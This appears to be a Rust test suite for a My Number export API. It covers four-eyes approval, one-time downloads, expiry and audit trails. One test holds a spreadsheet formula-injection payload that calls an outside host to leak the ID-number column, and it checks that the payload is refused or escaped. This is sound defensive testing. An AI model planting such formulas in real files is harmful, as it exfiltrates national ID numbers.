//! Exports for filings with four eyes (SPEC §4b) against moto: request, self-approval
//! refused, approval by another, one download, 410 after; expiry; a failed trail write
//! produces no file; another tenant's export is 404.

use super::*;
use chrono::Duration;
use mynumber_tests::faults::{ErrorKind, Fault, FaultPlan, FaultProxy};
use std::sync::atomic::Ordering;

const REQUESTER: &str = "payroll-suzuki";

pub(crate) fn requester() -> Who {
    Who::handler("acme")
}

pub(crate) fn approver() -> Who {
    Who::new("payroll-yamada", "acme", &["handler"])
}

async fn post(stack: &Stack, who: &Who, path: &str, body: Value) -> Reply {
    stack
        .call(req("POST", path).who(who).json(body).build())
        .await
}

async fn get(stack: &Stack, who: &Who, path: &str) -> Reply {
    stack.call(req("GET", path).who(who).build()).await
}

pub(crate) async fn request_export(stack: &Stack, who: &Who, body: Value) -> Reply {
    post(stack, who, "/v1/exports", body).await
}

pub(crate) async fn approve(stack: &Stack, who: &Who, id: &str) -> Reply {
    post(stack, who, &format!("/v1/exports/{id}/approve"), json!({})).await
}

async fn download(stack: &Stack, who: &Who, id: &str) -> Reply {
    get(stack, who, &format!("/v1/exports/{id}/file")).await
}

/// The durable trail's reveals that name `export_id`.
async fn trail_of(stack: &Stack, export_id: &str) -> Vec<Value> {
    stack
        .items_of_kind("audit")
        .await
        .iter()
        .map(|i| serde_json::from_str::<Value>(i["event"].as_s().unwrap()).unwrap())
        .filter(|e| e["export_id"] == export_id)
        .collect()
}

/// Three records state withholding tax (E1's own and their child's, E2's own); E3's own
/// states social insurance only.
async fn registered(stack: &Stack) {
    let hr = Who::registrar("acme");
    for body in [
        own_number("E1", N1),
        dependent("E1", "長男", N2),
        own_number("E2", N3),
    ] {
        let r = register(stack, &hr, body).await;
        assert_eq!(r.status, 201, "{}", r.raw);
    }
    let mut social_only = own_number("E3", N4);
    social_only["purposes"] = json!(["social_insurance"]);
    let r = register(stack, &hr, social_only).await;
    assert_eq!(r.status, 201, "{}", r.raw);
}

#[tokio::test]
async fn a_year_end_export_is_requested_approved_by_another_and_downloaded_once() {
    let stack = Stack::new().await;
    registered(&stack).await;

    let r = request_export(
        &stack,
        &requester(),
        json!({"purpose": "withholding_tax", "all": true}),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.raw);
    assert_eq!(r.body["status"], "pending_approval");
    assert_eq!(r.body["record_count"], 3);
    assert_eq!(r.body["requested_by"], REQUESTER);
    assert_eq!(r.body["purpose"], "withholding_tax");
    let id = r.body["export_id"].as_str().unwrap().to_owned();

    // A record registered after the request is not in what the approver approves.
    stack.set_now(stack.clock.now_plus(Duration::seconds(1)));
    let late = register(&stack, &Who::registrar("acme"), own_number("E4", N5)).await;
    assert_eq!(late.status, 201, "{}", late.raw);

    // Four eyes: the requester cannot approve, nor download before an approval.
    assert_problem(&approve(&stack, &requester(), &id).await, 403, "four_eyes");
    assert_problem(
        &download(&stack, &requester(), &id).await,
        409,
        "not_approved",
    );
    // A registrar or an auditor cannot approve; another tenant's handler finds nothing.
    assert_problem(
        &approve(&stack, &Who::registrar("acme"), &id).await,
        403,
        "forbidden_role",
    );
    assert_problem(
        &approve(&stack, &Who::new("payroll-x", "other", &["handler"]), &id).await,
        404,
        "not_found",
    );

    let ok = approve(&stack, &approver(), &id).await;
    assert_eq!(ok.status, 200, "{}", ok.raw);
    assert_eq!(ok.body["status"], "approved");
    assert_eq!(ok.body["approved_by"], "payroll-yamada");
    assert_problem(
        &approve(&stack, &approver(), &id).await,
        409,
        "not_approved",
    );
    // The file is the requester's alone.
    assert_problem(
        &download(&stack, &approver(), &id).await,
        403,
        "not_requester",
    );
    assert_problem(
        &download(&stack, &Who::new(REQUESTER, "other", &["handler"]), &id).await,
        404,
        "not_found",
    );

    let listed = get(&stack, &Who::auditor("acme"), "/v1/exports").await;
    assert_eq!(listed.status, 200, "{}", listed.raw);
    assert_eq!(listed.body["items"][0]["export_id"], id.as_str());
    assert_eq!(listed.body["items"][0]["status"], "approved");
    assert!(!listed.raw.contains("E1"), "a listing names no employee");

    assert!(trail_of(&stack, &id).await.is_empty());
    let file = download(&stack, &requester(), &id).await;
    assert_eq!(file.status, 200, "{}", file.raw);
    assert!(
        file.content_type.starts_with("text/csv"),
        "{}",
        file.content_type
    );
    assert_eq!(file.headers["cache-control"], "no-store");
    assert!(
        file.headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains(&id)
    );
    let lines: Vec<&str> = file.raw.lines().collect();
    assert_eq!(
        lines,
        vec![
            "employee_id,relation,dependent_label,my_number",
            &format!("E1,self,,{N1}"),
            &format!("E1,dependent,長男,{N2}"),
            &format!("E2,self,,{N3}"),
        ]
    );
    // Every number in the file is a reveal in the durable trail.
    let trail = trail_of(&stack, &id).await;
    assert_eq!(trail.len(), 3);
    for e in &trail {
        assert_eq!(e["event"], "reveal");
        assert_eq!(e["outcome"], "authorized");
        assert_eq!(e["actor"], REQUESTER);
        assert_eq!(e["purpose"], "withholding_tax");
    }

    // Once only.
    assert_problem(
        &download(&stack, &requester(), &id).await,
        410,
        "export_gone",
    );
    let listed = get(&stack, &Who::admin("acme"), "/v1/exports").await;
    assert_eq!(listed.body["items"][0]["status"], "downloaded");

    let events = stack.audit_events();
    let of = |kind: &str| -> Vec<&Value> {
        events
            .iter()
            .filter(|e| e["event"] == kind && e["export_id"] == id.as_str())
            .collect()
    };
    assert_eq!(of("export_requested").len(), 1);
    assert_eq!(of("export_requested")[0]["count"], 3);
    let approved: Vec<&Value> = of("export_approved")
        .into_iter()
        .filter(|e| e["outcome"] == "success")
        .collect();
    assert_eq!(approved.len(), 1);
    assert_eq!(approved[0]["actor"], "payroll-yamada");
    // The requester's own try is a denial on the record.
    assert!(
        of("denied")
            .iter()
            .any(|e| e["action"] == "approve_export" && e["reason"] == "four_eyes")
    );
    let downloaded = of("export_downloaded");
    let done: Vec<&&Value> = downloaded
        .iter()
        .filter(|e| e["outcome"] == "success")
        .collect();
    assert_eq!(done.len(), 1);
    assert_eq!(done[0]["count"], 3);
    assert_eq!(done[0]["actor"], REQUESTER);
    assert!(downloaded.iter().any(|e| e["reason"] == "export_gone"));
    assert!(downloaded.iter().any(|e| e["reason"] == "not_approved"));
    assert_eq!(of("reveal").len(), 3);
    stack.assert_no_plaintext(ALL_NUMBERS).await;
}

#[tokio::test]
async fn an_export_names_employees_or_all_and_an_admin_may_approve_it() {
    let stack = Stack::new().await;
    registered(&stack).await;
    let r = request_export(
        &stack,
        &requester(),
        json!({"purpose": "social_insurance", "employee_ids": ["E3", "E2", "E3"]}),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.raw);
    assert_eq!(r.body["record_count"], 2);
    assert_eq!(r.body["employee_count"], 2);
    let id = r.body["export_id"].as_str().unwrap().to_owned();
    let ok = approve(&stack, &Who::admin("acme"), &id).await;
    assert_eq!(ok.status, 200, "{}", ok.raw);
    // An admin approves without seeing a number: the file stays the requester's.
    assert_problem(
        &download(&stack, &Who::admin("acme"), &id).await,
        403,
        "forbidden_role",
    );
    let file = download(&stack, &requester(), &id).await;
    assert_eq!(file.status, 200, "{}", file.raw);
    assert_eq!(file.raw.lines().count(), 3);
    assert!(file.raw.contains(&format!("E2,self,,{N3}")));
    assert!(file.raw.contains(&format!("E3,self,,{N4}")));

    // Bad requests name the field and echo nothing.
    for (body, field, rule) in [
        (
            json!({"purpose": "withholding_tax"}),
            "employee_ids",
            "required",
        ),
        (
            json!({"purpose": "withholding_tax", "all": true, "employee_ids": ["E1"]}),
            "all",
            "conflicts_with_employee_ids",
        ),
        (
            json!({"purpose": "withholding_tax", "employee_ids": []}),
            "employee_ids",
            "empty",
        ),
        (
            json!({"purpose": "withholding_tax", "employee_ids": ["E 1"]}),
            "employee_ids[0]",
            "charset",
        ),
        (json!({"purpose": "tax", "all": true}), "purpose", "enum"),
        (
            json!({"purpose": "withholding_tax", "all": false}),
            "all",
            "must_be_true",
        ),
    ] {
        let r = request_export(&stack, &requester(), body.clone()).await;
        assert_problem(&r, 400, "invalid_request");
        assert_eq!(
            r.field_errors(),
            vec![(field.to_owned(), rule.to_owned())],
            "{body}"
        );
    }
    // A selection without a record stating the purpose is a valid request that meets a state
    // it cannot serve: 409, as a stock contract fuzzer expects of valid data.
    for body in [
        json!({"purpose": "payment_record", "all": true}),
        json!({"purpose": "withholding_tax", "employee_ids": ["E9"]}),
    ] {
        assert_problem(
            &request_export(&stack, &requester(), body).await,
            409,
            "no_records",
        );
    }
    // Only handlers ask for exports.
    assert_problem(
        &request_export(
            &stack,
            &Who::auditor("acme"),
            json!({"purpose": "withholding_tax", "all": true}),
        )
        .await,
        403,
        "forbidden_role",
    );
    stack.assert_no_plaintext(ALL_NUMBERS).await;
}

#[tokio::test]
async fn an_export_expires_unapproved_after_seven_days_and_undownloaded_after_an_hour() {
    let stack = Stack::new().await;
    registered(&stack).await;
    let t0 = stack.clock.now_plus(Duration::zero());
    let body = json!({"purpose": "withholding_tax", "all": true});
    let first = request_export(&stack, &requester(), body.clone()).await;
    let first = first.body["export_id"].as_str().unwrap().to_owned();
    let second = request_export(&stack, &requester(), body).await;
    let second = second.body["export_id"].as_str().unwrap().to_owned();
    assert_eq!(approve(&stack, &approver(), &second).await.status, 200);

    // An hour after its approval, the second cannot be downloaded.
    stack.set_now(t0 + Duration::minutes(61));
    assert_problem(
        &download(&stack, &requester(), &second).await,
        410,
        "export_gone",
    );
    // Seven days on, the first can no longer be approved.
    stack.set_now(t0 + Duration::days(7));
    assert_problem(
        &approve(&stack, &approver(), &first).await,
        410,
        "export_gone",
    );
    let listed = get(&stack, &requester(), "/v1/exports").await;
    let statuses: Vec<&Value> = listed.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["status"])
        .collect();
    assert_eq!(statuses, vec!["expired", "expired"], "{}", listed.raw);
    // Each expiry is audited once, however often the export is asked for afterwards.
    assert_problem(
        &approve(&stack, &approver(), &first).await,
        410,
        "export_gone",
    );
    let expired: Vec<Value> = stack
        .audit_events()
        .into_iter()
        .filter(|e| e["event"] == "export_expired")
        .collect();
    assert_eq!(expired.len(), 2, "{expired:?}");
    assert!(trail_of(&stack, &first).await.is_empty());
    assert!(trail_of(&stack, &second).await.is_empty());
}

#[tokio::test]
async fn a_failed_trail_write_produces_no_file_and_spends_no_download() {
    let mut plan = FaultPlan::new(7, 1.0);
    plan.operations = vec!["TransactWriteItems"];
    plan.kinds = vec![Fault::ErrorBefore(ErrorKind::Internal)];
    let moto = mynumber_tests::moto::private_endpoint();
    let proxy = FaultProxy::start(&moto, plan);
    proxy.active.store(false, Ordering::SeqCst);
    let stack = Stack::behind(&moto, &proxy).await;
    registered(&stack).await;
    let r = request_export(
        &stack,
        &requester(),
        json!({"purpose": "withholding_tax", "all": true}),
    )
    .await;
    let id = r.body["export_id"].as_str().unwrap().to_owned();
    assert_eq!(approve(&stack, &approver(), &id).await.status, 200);

    // Every trail write fails: no file, and no number decrypted.
    proxy.active.store(true, Ordering::SeqCst);
    let failed = download(&stack, &requester(), &id).await;
    assert_problem(&failed, 503, "dependency_failed");
    assert!(trail_of(&stack, &id).await.is_empty());
    assert!(
        !proxy
            .stats
            .take_calls()
            .iter()
            .any(|c| c.op == "KMS/Decrypt"),
        "no Decrypt before the trail is stored"
    );
    let listed = get(&stack, &requester(), "/v1/exports").await;
    assert_eq!(listed.body["items"][0]["status"], "approved");

    // Once the table takes writes again, the requester's one download is still there.
    proxy.active.store(false, Ordering::SeqCst);
    let file = download(&stack, &requester(), &id).await;
    assert_eq!(file.status, 200, "{}", file.raw);
    assert_eq!(trail_of(&stack, &id).await.len(), 3);
    stack.assert_no_plaintext(ALL_NUMBERS).await;
}

/// A dependant named as a spreadsheet formula (`=HYPERLINK(…&CONCAT(D:D))` would mail every
/// number of the file away once HR opens it) is refused wherever a label comes in — intake,
/// a collection link, an import row — and a label stored before that rule reaches the
/// downloaded file as text.
#[tokio::test]
async fn a_label_a_spreadsheet_would_run_is_refused_at_every_input_and_text_in_the_file() {
    let stack = Stack::new().await;
    let hr = Who::registrar("acme");
    // Within the label's 40 characters: D2 is the number's column.
    let formula = r#"=HYPERLINK("http://x.jp/"&D2,"x")"#;
    let r = register(&stack, &hr, dependent("E1", formula, N2)).await;
    assert_problem(&r, 400, "invalid_request");
    assert_eq!(
        r.field_errors(),
        vec![("dependent_label".to_owned(), "formula".to_owned())]
    );
    for label in ["+81", "-1", "@SUM(A1)", " =1"] {
        let r = register(&stack, &hr, dependent("E1", label, N2)).await;
        assert_eq!(
            r.field_errors(),
            vec![("dependent_label".into(), "formula".into())]
        );
    }

    let (_, token) = super::collections::open_link(&stack, "E5", true).await;
    let r = super::collections::submit(
        &stack,
        &token,
        json!({"self": super::collections::own(N4),
               "dependents": [{"label": formula, "my_number": N5}]}),
    )
    .await;
    assert_eq!(r.status, 400, "{}", r.raw);
    assert_eq!(
        r.field_errors(),
        vec![("dependents[0].label".to_owned(), "formula".to_owned())]
    );

    let csv = format!(
        "employee_id,relation,dependent_label,my_number,purposes,number_check,identity_check,verified_on\n\
         E6,dependent,\"{}\",{N5},withholding_tax,notification_card,by_employee,2026-04-01\n",
        formula.replace('"', "\"\"")
    );
    let r = stack
        .call(
            req("POST", "/v1/imports")
                .who(&hr)
                .header("content-type", "text/csv")
                .raw_body(&csv)
                .build(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.raw);
    let row = &r.body["rows"][0];
    assert_eq!(row["status"], "failed", "{}", r.raw);
    assert_eq!(row["errors"][0]["field"], "dependent_label", "{}", r.raw);
    assert_eq!(row["errors"][0]["rule"], "formula", "{}", r.raw);

    // A label kept from before the rule: the export's file holds it as text.
    let child = register(&stack, &hr, dependent("E1", "長男", N2)).await;
    assert_eq!(child.status, 201, "{}", child.raw);
    let item = stack
        .items_of_kind("record")
        .await
        .into_iter()
        .find(|i| i["record_id"].as_s().unwrap() == child.body["record_id"].as_str().unwrap())
        .unwrap();
    stack.overwrite(&item, "dependent_label", formula).await;
    let r = request_export(
        &stack,
        &requester(),
        json!({"purpose": "withholding_tax", "employee_ids": ["E1"]}),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.raw);
    let id = r.body["export_id"].as_str().unwrap().to_owned();
    assert_eq!(approve(&stack, &approver(), &id).await.status, 200);
    let file = download(&stack, &requester(), &id).await;
    assert_eq!(file.status, 200, "{}", file.raw);
    let line = file.raw.lines().nth(1).unwrap().to_owned();
    let as_text = format!(",\"'{}\",", formula.replace('"', "\"\""));
    assert!(line.contains(&as_text), "{line} lacks {as_text}");
    assert!(!file.raw.contains(",=HYPERLINK"));
}

#[tokio::test]
async fn a_submission_confirmed_after_the_request_is_not_in_the_file() {
    let stack = Stack::new().await;
    registered(&stack).await;
    // E5's number waits for review when the export is requested.
    let (_, token) = super::collections::open_link(&stack, "E5", false).await;
    let sub =
        super::collections::submit(&stack, &token, json!({"self": super::collections::own(N5)}))
            .await;
    assert_eq!(sub.status, 201, "{}", sub.raw);
    let pending = sub.body["records"][0]["record_id"]
        .as_str()
        .unwrap()
        .to_owned();

    let r = request_export(
        &stack,
        &requester(),
        json!({"purpose": "withholding_tax", "all": true}),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.raw);
    assert_eq!(r.body["record_count"], 3, "a pending number is not counted");
    let id = r.body["export_id"].as_str().unwrap().to_owned();

    // Confirmed a second later: it may be revealed from now on, but the approver
    // approves the three the request counted.
    stack.set_now(stack.clock.now_plus(Duration::seconds(1)));
    let confirmed = super::collections::confirm(&stack, &pending, "photo_id").await;
    assert_eq!(confirmed.status, 200, "{}", confirmed.raw);
    assert_eq!(approve(&stack, &approver(), &id).await.status, 200);
    let file = download(&stack, &requester(), &id).await;
    assert_eq!(file.status, 200, "{}", file.raw);
    assert_eq!(file.raw.lines().count(), 1 + 3, "{}", file.raw);
    assert!(!file.raw.contains("E5,"));
    assert_eq!(trail_of(&stack, &id).await.len(), 3);

    // A request made after the confirmation counts it.
    let later = request_export(
        &stack,
        &requester(),
        json!({"purpose": "withholding_tax", "all": true}),
    )
    .await;
    assert_eq!(later.body["record_count"], 4, "{}", later.raw);
    stack.assert_no_plaintext(ALL_NUMBERS).await;
}
